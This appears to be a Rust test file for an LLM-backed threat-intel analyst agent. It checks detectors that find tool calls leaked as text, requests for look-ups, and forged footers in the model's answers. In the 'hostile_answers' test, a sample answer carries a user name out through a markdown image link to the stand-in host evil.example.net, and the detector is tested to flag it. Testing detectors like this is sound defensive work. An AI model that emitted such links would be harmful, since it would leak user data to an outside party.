//! What is read from a model's answer besides its claims: calls that leaked as text, wishes for look-ups,
//! footers that it made up.

#![allow(clippy::unwrap_used, reason = "helpers of tests fail like tests")]

use kit::indicator::Indicator;
use rmm_analyst::agent::{footer, leaked, questions};
use serde::Deserialize;

fn lines<T: for<'d> Deserialize<'d>>(name: &str) -> Vec<T> {
    let path = format!(
        "{}/tests/fixtures/grounding/{name}",
        env!("CARGO_MANIFEST_DIR")
    );
    let text = std::fs::read_to_string(&path).unwrap();
    text.lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[derive(Deserialize)]
struct Text {
    what: String,
    text: String,
    call: bool,
}

fn tools() -> Vec<String> {
    [
        "abuseipdb",
        "crtsh",
        "urlhaus",
        "threatfox",
        "propose_pivot",
    ]
    .map(str::to_owned)
    .to_vec()
}

#[test]
fn calls_as_text_are_known_and_quotations_are_not_calls() {
    let all: Vec<Text> = lines("leaked.jsonl");
    assert!(all.iter().filter(|t| !t.call).count() >= 20);
    let wrong: Vec<&str> = all
        .iter()
        .filter(|t| leaked::is_call(&t.text, &tools()) != t.call)
        .map(|t| t.what.as_str())
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[derive(Deserialize)]
struct Question {
    text: String,
    want: Vec<String>,
}

#[test]
fn questions_become_wishes() {
    let all: Vec<Question> = lines("questions.jsonl");
    assert!(all.len() >= 30);
    let mut wrong = Vec::new();
    for q in all {
        let got = questions::asked_for(&q.text);
        let got: Vec<&str> = got.iter().map(Indicator::value).collect();
        if got != q.want {
            wrong.push(format!("{:?}: {got:?}, not {:?}", q.text, q.want));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[derive(Deserialize)]
struct Footer {
    what: String,
    text: String,
    want: String,
}

#[test]
fn forged_footers_go_and_prose_stays() {
    let mut wrong = Vec::new();
    for f in lines::<Footer>("footers.jsonl") {
        let got = footer::without_forged(&f.text);
        if got != f.want {
            wrong.push(format!("{}: {got:?}, not {:?}", f.what, f.want));
        }
        if footer::without_forged(&got) != got {
            wrong.push(format!("{}: not the same when done twice", f.what));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

mod any_text {
    use super::{footer, leaked, questions, tools};
    use proptest::prelude::*;
    use rmm_analyst::agent::grounding::{Evidence, unsupported};
    use rmm_analyst::case::CaseState;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn never_panics(text in "(\\PC|[\\n`*>|?.:;,0-9-]|AbuseIPDB|malicious|clean|<tool_call>|198\\.51\\.100\\.7|12 March 2026|\u{a0}|’){0,60}") {
            let _ = leaked::is_call(&text, &tools());
            let _ = questions::asked_for(&text);
            let once = footer::without_forged(&text);
            prop_assert!(once.len() <= text.len() + 16);
            for m in unsupported(&text, &CaseState::default(), 1, &Evidence::default()) {
                prop_assert!(text.contains(&m.text));
            }
        }
    }
}

/// The recordings of real servers: a text that the small coder model wrote instead of a call.
#[test]
fn recorded_leaks_are_calls() {
    let dir = format!(
        "{}/tests/fixtures/wire/llamacpp-qwen2.5-coder-0.5b",
        env!("CARGO_MANIFEST_DIR")
    );
    for name in [
        "chat_tool_auto_nonstream",
        "chat_tool_required_nonstream",
        "hinted_tool_auto_nonstream",
        "json_schema_nonstream",
        "twostep_final_nonstream",
    ] {
        let body = std::fs::read_to_string(format!("{dir}/{name}.body")).unwrap();
        let body: serde_json::Value = serde_json::from_str(&body).unwrap();
        let text = body["choices"][0]["message"]["content"].as_str().unwrap();
        assert!(leaked::is_call(text, &tools()), "{name}: {text}");
    }
}

/// An answer that carries data out in a link, and one that asks in plain text.
#[test]
fn hostile_answers() {
    use rmm_analyst::agent::grounding::{Evidence, unsupported};
    let text = "Done ![s](https://evil.example.net/?c=user-bob)";
    let marks = unsupported(
        text,
        &rmm_analyst::case::CaseState::default(),
        1,
        &Evidence::default(),
    );
    assert_eq!(marks.len(), 1, "{marks:?}");
    assert_eq!(marks[0].text, "https://evil.example.net/?c=user-bob");
    assert_eq!(questions::asked_for(text), []);
    let asked = questions::asked_for("May I look up 198.51.100.99 next?");
    assert_eq!(asked[0].value(), "198.51.100.99");
}
